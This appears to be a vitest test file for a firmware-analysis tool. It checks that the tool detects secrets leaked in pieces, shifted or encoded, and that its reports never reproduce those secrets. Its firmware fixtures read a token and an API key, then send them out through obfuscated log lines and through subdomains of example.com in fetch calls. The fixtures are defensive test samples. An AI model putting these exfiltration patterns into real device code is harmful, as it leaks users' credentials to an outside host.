/** A document shows nothing of a secret that is told in a way no search knows: in pieces, shifted, in names, beside others. */
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { toBytes } from "../../sim/tape/bytes.ts";
import type { FirmwareReport } from "../../src/report/document.ts";
import { markedContent } from "../../src/report/marked-content.ts";
import { changedBytes } from "../../src/report/veil.ts";
import { applianceAt } from "../../src/subjects/appliance.ts";
import { loadPolicy } from "../../src/subjects/policy-file.ts";
import { AS_DECLARED, checkAppliance } from "../../src/tasks/check-appliance.ts";
import { tempProject } from "../compile/temp-project.ts";
import { documentOf, observed, rendered } from "./checked.ts";

/** Tells a token in every way that is not its own bytes, often beside something that is found. */
const FIRMWARE = `import { readSetting } from "@devicescript/settings";
import { fetch } from "@devicescript/net";
import { delay } from "@devicescript/core";
const token = await readSetting("token", "");
const apiKey = await readSetting("apiKey", "");
function joined(text: string, between: string): string {
  let out = "";
  for (let at = 0; at < text.length; at++) out += text[at] + between;
  return out;
}
function shifted(text: string): string {
  let out = "";
  for (let at = 0; at < text.length; at++) out += String.fromCharCode(text.charCodeAt(at) + 1);
  return out;
}
const sevens = token.slice(0, 7) + " " + token.slice(7, 14) + " " + token.slice(14, 21);
console.log("A " + apiKey + " " + sevens);
console.log("B " + token + " " + joined(token.slice(0, 12), " "));
console.log("C \\u2039settings.token, 1 byte\\u203a " + sevens);
console.log("D " + joined(token.slice(0, 16), "..."));
console.log("E " + shifted(token));
console.log("F length " + token.length + " " + joined(token.slice(0, 12), "-"));
let parity = 0;
for (let at = 0; at < token.length; at++) parity = (parity + token.charCodeAt(at)) % 2;
console.log("G " + parity + " beside " + sevens);
await delay(5000);
const reply = await fetch("http://" + joined(token.slice(0, 12), "-") + "x.example.com/" + joined(apiKey.slice(0, 12), "."));
await reply.close();
`;

let main: string;
let report: FirmwareReport;

beforeAll(async () => {
  main = join(tempProject({ "main.ts": FIRMWARE }), "main.ts");
  const appliance = applianceAt(main);
  const request = { ...AS_DECLARED, virtualMicros: 9_000_000, evidence: true, explore: 0 };
  const checked = checkAppliance(appliance, await loadPolicy(appliance), request).report;
  if (checked.kind !== "firmware") throw new Error(checked.message);
  report = checked;
});

/** Letters and digits alone. */
function squeezed(text: string): string {
  return text.toLowerCase().replace(/[^a-z0-9]/g, "");
}

describe("a document on firmware that tells its secrets in pieces", () => {
  it("finds the leaks, and has content to show of some", () => {
    const leaks = report.verdict.findings.filter(({ allowed }) => allowed === null);
    expect(leaks.length).toBeGreaterThan(6);
    expect(leaks.filter(({ evidence }) => evidence?.content != null).length).toBeGreaterThan(3);
  });

  it("holds no five characters of one in a row, whatever stands between them", async () => {
    const { secrets } = await observed(main);
    const told = secrets.filter(({ name }) => name.startsWith("settings."));
    expect(told.map(({ name }) => name)).toEqual(["settings.apiKey", "settings.token"]);
    const texts = [
      JSON.stringify(documentOf([report])),
      ...(["html", "json", "md", "sarif"] as const).map((format) => rendered(format, [report])),
    ];
    for (const { value } of told)
      for (let at = 0; at + 5 <= value.length; at++) {
        const piece = squeezed(value.slice(at, at + 5));
        const moved = squeezed(
          Array.from(value.slice(at, at + 5), (c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(""),
        );
        for (const text of texts.map(squeezed)) {
          expect(text.includes(piece)).toBe(false);
          if (moved.length === 5) expect(text.includes(moved)).toBe(false);
        }
      }
  });

  it("writes out signs by which firmware could forge a mark", () => {
    const forged = report.verdict.findings
      .map(({ evidence }) => evidence?.content ?? "")
      .find((text) => text.startsWith("> C "));
    expect(forged).toContain("\\u{2039}settings.token, 1 byte\\u{203a}");
    expect(forged).not.toContain("‹settings.token, 1 byte›");
  });

  it("says of a name that firmware makes of a secret that it does", () => {
    const peers = report.verdict.findings
      .map(({ to }) => to ?? "")
      .filter((to) => to.includes(".example.com"));
    expect(peers.length).toBeGreaterThan(0);
    for (const peer of peers) expect(peer).toMatch(/‹made from settings\.token›.*\.example\.com/);
  });
});

describe("names that are made of a secret", () => {
  it("are shown in no report, where only one world has them, and as keys of settings", async () => {
    const folder = tempProject({
      "main.ts": `import { readSetting, writeSetting } from "@devicescript/settings";
import { delay } from "@devicescript/core";
import { fetch } from "@devicescript/net";
const token = await readSetting("token", "");
const apiKey = await readSetting("apiKey", "");
await readSetting("u." + token.slice(0, 7), "");
await writeSetting("w" + apiKey.slice(7, 14), "x");
let spread = "";
for (let at = 0; at < apiKey.length; at++) spread += apiKey[at] + "---";
await delay(5000);
const reply = await fetch("http://" + token.slice(0, 7) + ".example.com/");
await reply.close();
if (apiKey.charCodeAt(0) < 91) {
  const more = await fetch("http://" + spread + "x.example.com/b");
  await more.close();
}
`,
    });
    const shown = await shownOf(join(folder, "main.ts"));
    expect(shown.peers.length).toBeGreaterThan(0);
    for (const { value } of shown.secrets)
      for (let at = 0; at + 5 <= value.length; at++)
        expect(shown.text.includes(squeezed(value.slice(at, at + 5)))).toBe(false);
  });

  it("are hidden of a secret that the device drew itself as well", async () => {
    const folder = tempProject({
      "main.ts": `import { readSetting, writeSetting } from "@devicescript/settings";
let key = await readSetting("token", "");
if (key === "") {
  for (let at = 0; at < 24; at++) key += String.fromCharCode(97 + Math.floor(Math.random() * 26));
  await writeSetting("token", key);
}
let spaced = "";
for (let at = 0; at < key.length; at++) spaced += key[at] + " - ";
console.log("made " + key + " " + spaced);
`,
    });
    const { contents } = await shownOf(join(folder, "main.ts"));
    const made = contents.filter((content) => content.startsWith("> made ‹settings.token, 24 bytes"));
    expect(made.length).toBeGreaterThan(0);
    for (const content of made) expect(content).not.toMatch(/(?:[a-z] - ){3}/);
  });
});

/** Everything that reports say of a firmware, letters and digits alone. */
async function shownOf(entry: string) {
  const appliance = applianceAt(entry);
  const request = { ...AS_DECLARED, virtualMicros: 9_000_000, evidence: true, explore: 0 };
  const shown = checkAppliance(appliance, await loadPolicy(appliance), request).report;
  if (shown.kind !== "firmware") throw new Error(shown.message);
  const formats = (["html", "json", "md", "sarif"] as const).map((format) => rendered(format, [shown]));
  const { secrets } = await observed(entry);
  return {
    text: squeezed([JSON.stringify(documentOf([shown])), ...formats].join("\n")),
    secrets: secrets.filter(({ name }) => name.startsWith("settings.")),
    peers: shown.verdict.findings.flatMap(({ to }) => (to?.includes("example.com") ? [to] : [])),
    contents: shown.verdict.findings.flatMap(({ evidence }) => evidence?.content ?? []),
  };
}

describe("bytes that change", () => {
  it("are ranges where both are as long, else all but a shared beginning and end", () => {
    expect(changedBytes(toBytes("a=1&long=shared&b=22"), toBytes("a=3&long=shared&b=44"))).toEqual([
      { start: 2, end: 3 },
      { start: 18, end: 20 },
    ]);
    expect(changedBytes(toBytes("a=1&b"), toBytes("a=234&b"))).toEqual([{ start: 2, end: 3, isRough: true }]);
    expect(changedBytes(toBytes("same"), toBytes("same"))).toEqual([]);
  });

  it("have marks of their own where they depend on other secrets, but not for a few that do by chance", () => {
    const text = toBytes("x=0123456789abcdefghij&y");
    const range = (name: string, start: number, end: number) => ({ start, end, from: [name] });
    const mark = (...ranges: ReturnType<typeof range>[]) => markedContent(text, [], ranges);
    expect(mark(range("psk", 2, 22), range("ssid", 12, 22))).toBe(
      "x=‹computed from psk, 10 bytes›‹computed from psk and ssid, 10 bytes›&y",
    );
    expect(mark(range("psk", 2, 22), range("ssid", 5, 22))).toBe(
      "x=‹computed from psk and ssid, 20 bytes›&y",
    );
    expect(mark(range("psk", 2, 11), range("ssid", 13, 22))).toBe(
      "x=‹computed from psk, 11 bytes›‹computed from ssid, 9 bytes›&y",
    );
  });

  it("have one mark where a few between them are equal by chance, and none on text between two secrets", () => {
    const text = toBytes("x=12ab34 with abcd and efgh");
    const range = (start: number, end: number) => ({ start, end, from: ["token"] });
    expect(markedContent(text, [], [range(2, 4), range(6, 8)])).toBe(
      "x=‹computed from token, 6 bytes› with abcd and efgh",
    );
    const place = (start: number) => ({ secret: "key", chain: [], start, end: start + 4 });
    expect(markedContent(text, [place(14), place(23)], [range(14, 18), range(23, 27)])).toBe(
      "x=12ab34 with ‹key, 4 bytes› and ‹key, 4 bytes›",
    );
  });
});
